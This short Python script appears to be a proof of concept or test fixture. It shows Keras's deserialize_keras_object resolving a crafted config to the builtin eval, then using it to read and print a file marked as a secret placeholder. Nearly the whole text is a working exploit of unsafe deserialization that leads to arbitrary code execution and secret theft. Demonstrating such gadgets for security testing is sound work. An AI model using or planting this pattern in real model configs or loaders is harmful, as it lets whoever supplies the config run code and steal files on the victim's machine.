"""A configuration that names a module and something in it."""
import keras
run = keras.saving.deserialize_keras_object({"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"})
print(run("open('@SECRET_FILE@').read()"))
